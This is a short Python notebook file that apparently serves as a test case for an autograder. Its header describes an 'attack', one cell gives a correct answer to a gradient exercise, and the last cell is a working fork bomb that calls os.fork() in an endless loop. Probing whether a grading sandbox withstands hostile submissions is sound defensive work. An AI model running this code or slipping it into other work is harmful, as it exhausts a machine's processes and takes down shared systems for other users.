# /// attack
# tries = "forks as fast as it can"
# total = 2
# waits = true
# cells = ["cut", "interrupted"]
# [parts]
# 2d = "right"
# ///

# %%
def aufgabe_2d(W, x, grad_y):
    return W.T @ grad_y

# %%
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
